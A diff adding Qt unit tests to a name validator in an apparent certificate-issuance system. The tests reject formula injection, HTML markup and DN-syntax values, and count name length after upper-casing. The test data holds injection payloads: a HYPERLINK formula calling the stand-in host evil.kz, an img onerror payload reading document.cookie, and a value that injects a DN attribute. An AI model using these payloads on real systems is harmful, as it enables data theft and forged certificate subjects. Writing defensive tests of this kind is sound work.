@@ -34,6 +34,10 @@ private Q_SLOTS:
     void aLettersPersonWorksForTheBody();
     void valuesAreNfcNormalised();
     void certificateAttributeBounds();
+    void personNamesAreWrittenInLetters_data();
+    void personNamesAreWrittenInLetters();
+    void everyPersonNameFieldHasTheLetterRule();
+    void namesAreCountedInCapitals();
 };
 
 void TestValidationText::normaliseKazakhName_data() {
@@ -385,6 +389,137 @@ void TestValidationText::certificateAttributeBounds() {
         const FieldError* e = errorFor(Validator::validate(f, s), QStringLiteral("ca_name"));
         QVERIFY(e);
         QVERIFY2(e->message.contains(u" CN ") && e->message.contains(u"64"), qPrintable(e->message));
+    }
+}
+
+// Attack of session 33, C6: a formula, markup, RFC 4514 syntax and U+FFFD were registered, approved and certified as
+// surnames. A name holds letters of any script, combining marks, spaces, hyphens, apostrophes and dots only; the
+// refusal names the character, its code point and position.
+void TestValidationText::personNamesAreWrittenInLetters_data() {
+    QTest::addColumn<QString>("surname");
+    QTest::addColumn<QString>("offending"); // empty: accepted
+    QTest::newRow("formula") << QStringLiteral("=HYPERLINK(\"http://evil.kz/?x\"&A1;\"click\")")
+                             << QStringLiteral("\"=\" (U+003D) at position 1");
+    QTest::newRow("markup") << QStringLiteral("<img src=x onerror=alert(document.cookie)>")
+                            << QStringLiteral("\"<\" (U+003C) at position 1");
+    QTest::newRow("RFC 4514 syntax") << QStringLiteral("Kasymova,O=Evil Corp")
+                                     << QStringLiteral("\",\" (U+002C) at position 9");
+    QTest::newRow("replacement character")
+        << QStringLiteral("Kasymova\uFFFD") << QStringLiteral("(U+FFFD) at position 9");
+    QTest::newRow("object replacement") << QStringLiteral("Kasymova\uFFFC") << QStringLiteral("(U+FFFC)");
+    QTest::newRow("plus") << QStringLiteral("Kasymova+SN=X") << QStringLiteral("(U+002B)");
+    QTest::newRow("underscore") << QStringLiteral("Қасымова_") << QStringLiteral("(U+005F)");
+    QTest::newRow("parenthesis") << QStringLiteral("Қасымова (Сәрсенова)") << QStringLiteral("(U+0028) at position 10");
+    QTest::newRow("at sign") << QStringLiteral("@Kasymova") << QStringLiteral("(U+0040)");
+    QTest::newRow("emoji") << QStringLiteral("Kasymova\U0001F600") << QStringLiteral("(U+1F600) at position 9");
+    QTest::newRow("a digit still by its own message") << QStringLiteral("Kasymova2") << QStringLiteral("digit 2");
+    QTest::newRow("Kazakh letters") << QStringLiteral("ӘҒҚҢӨҰҮҺІ әғқңөұүһі") << QString();
+    QTest::newRow("hyphen") << QStringLiteral("Сәрсенбаева-Қасымова") << QString();
+    QTest::newRow("apostrophe") << QStringLiteral("O'Brien") << QString();
+    QTest::newRow("typographic apostrophe") << QStringLiteral("D’Artagnan") << QString();
+    QTest::newRow("modifier apostrophe (a letter)") << QStringLiteral("Oʻrinboyev") << QString();
+    QTest::newRow("initials") << QStringLiteral("Жұмабеков Н. Қ.") << QString();
+    QTest::newRow("no-break space") << QStringLiteral("Ван\u00A0Дейк") << QString();
+    QTest::newRow("combining accent") << QStringLiteral("Ива\u0301нов") << QString();
+    QTest::newRow("Arabic") << QStringLiteral("محمد") << QString();
+    QTest::newRow("Hangul") << QStringLiteral("김민준") << QString();
+    QTest::newRow("letters outside the BMP") << QStringLiteral("\U00010428\U00010429") << QString();
+    QTest::newRow("sharp s") << QStringLiteral("Straße") << QString();
+}
+
+void TestValidationText::personNamesAreWrittenInLetters() {
+    QFETCH(QString, surname);
+    QFETCH(QString, offending);
+    const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
+    Submission s = valid(f.code);
+    s.data.insert(QStringLiteral("surname"), surname);
+    const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
+    const FieldError* e = errorFor(r, QStringLiteral("surname"));
+    // What the GUI checks while the operator types (FieldEditor): the same rule.
+    const QString live = Validator::validateField(*f.field(QStringLiteral("surname")), surname, QStringLiteral("en"));
+    if (offending.isEmpty()) {
+        QVERIFY2(!e, qPrintable(r.summary()));
+        QVERIFY2(live.isEmpty(), qPrintable(live));
+        return;
+    }
+    QVERIFY2(e, qPrintable(r.summary()));
+    QVERIFY2(e->message.contains(u"\"Surname\"") && e->message.contains(offending), qPrintable(e->message));
+    QCOMPARE(live, e->message);
+}
+
+// The rule holds in every form's every person-name field (surname, name, patronymic, full names; GOV rows too).
+void TestValidationText::everyPersonNameFieldHasTheLetterRule() {
+    int checked = 0;
+    for (const FormDef& f : FormCatalog::all()) {
+        for (const QList<FieldDef>* fields : {&f.fields, &f.personFields}) {
+            for (const FieldDef& field : *fields) {
+                if (field.id != u"surname" && field.id != u"name" && field.id != u"patronymic" &&
+                    field.id != u"full_name" && field.id != u"head_full_name")
+                    continue;
+                ++checked;
+                const QString bad =
+                    Validator::validateField(field, QStringLiteral("Kasymova,O=Evil Corp"), QStringLiteral("en"));
+                QVERIFY2(bad.contains(u"(U+002C)"), qPrintable(f.code + u' ' + field.id + u": " + bad));
+                const QString good =
+                    Validator::validateField(field, QStringLiteral("Қасымова-O’Brien Ә."), QStringLiteral("en"));
+                QVERIFY2(good.isEmpty(), qPrintable(f.code + u' ' + field.id + u": " + good));
+            }
+        }
+    }
+    qInfo("%d person-name fields", checked);
+    QVERIFY2(checked >= 10, qPrintable(QString::number(checked)));
+}
+
+// Attack of session 33, C8: "Kasymova" + 20 x "ﬃ" (28 characters) passed and was approved, and every issuance
+// failed: in capitals the CN "KASYMOVAFFIFFI… ALIYA" is 75 characters. The bounds count the capitals the certificate
+// carries (pki::SubjectName upper-cases by QString::toUpper): "ß" becomes "SS", "ﬃ" "FFI".
+void TestValidationText::namesAreCountedInCapitals() {
+    const QString ffi = QString(20, QChar(0xFB03));
+    QCOMPARE(ffi.toUpper().size(), 60);
+    for (const QString& code : {QStringLiteral("NCA-ISSUE-IND"), QStringLiteral("NCA-ISSUE-LEGAL")}) {
+        const FormDef& f = form(code);
+        Submission s = valid(f.code);
+        s.data.insert(QStringLiteral("surname"), QString(QStringLiteral("Kasymova") + ffi));
+        s.data.insert(QStringLiteral("name"), QStringLiteral("Aliya"));
+        ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
+        const FieldError* e = errorFor(r, QStringLiteral("surname"));
+        QVERIFY2(e, qPrintable(code + u": " + r.summary()));
+        QVERIFY2(e->message.contains(u"(CN)") && e->message.contains(u"capitals") && e->message.contains(u"74"),
+                 qPrintable(e->message));
+        // 29 x "ß" + " " + "Әлия": 63 characters in capitals; 30 make 65.
+        s.data.insert(QStringLiteral("name"), QStringLiteral("Әлия"));
+        s.data.insert(QStringLiteral("surname"), QString(29, u'ß'));
+        r = Validator::validate(f, s, QStringLiteral("en"));
+        QVERIFY2(r.ok(), qPrintable(r.summary()));
+        s.data.insert(QStringLiteral("surname"), QString(30, u'ß'));
+        r = Validator::validate(f, s, QStringLiteral("en"));
+        e = errorFor(r, QStringLiteral("surname"));
+        QVERIFY2(e && e->message.contains(u"65") && e->message.contains(u"capitals"), qPrintable(r.summary()));
+        // A name without such letters keeps the message it had.
+        s.data.insert(QStringLiteral("surname"), QString(60, u'Қ'));
+        e = errorFor(Validator::validate(f, s, QStringLiteral("en")), QStringLiteral("surname"));
+        QVERIFY(e && e->message.contains(u"65") && !e->message.contains(u"capitals"));
+    }
+    { // The patronymic on its own (givenName, at most 128): 64 x "ß" is 128 in capitals, 65 are 130.
+        const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
+        const FieldDef* patronymic = f.field(QStringLiteral("patronymic"));
+        QVERIFY(patronymic);
+        QVERIFY(Validator::validateField(*patronymic, QString(64, u'ß')).isEmpty());
+        const QString message = Validator::validateField(*patronymic, QString(65, u'ß'), QStringLiteral("en"));
+        QVERIFY2(message.contains(u"130") && message.contains(u"128") && message.contains(u"capitals"),
+                 qPrintable(message));
+    }
+    { // A GOV letter's rows as well.
+        const FormDef& f = form(QStringLiteral("GOV-ISSUE"));
+        Submission s = valid(f.code);
+        QJsonArray rows = s.data.value(QStringLiteral("persons")).toArray();
+        QJsonObject row = rows.at(0).toObject();
+        row.insert(QStringLiteral("surname"), QString(QStringLiteral("Kasymova") + ffi));
+        rows[0] = row;
+        s.data.insert(QStringLiteral("persons"), rows);
+        const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
+        const FieldError* e = errorFor(r, QStringLiteral("surname"), 0);
+        QVERIFY2(e && e->message.contains(u"(CN)") && e->message.contains(u"capitals"), qPrintable(r.summary()));
     }
 }
 
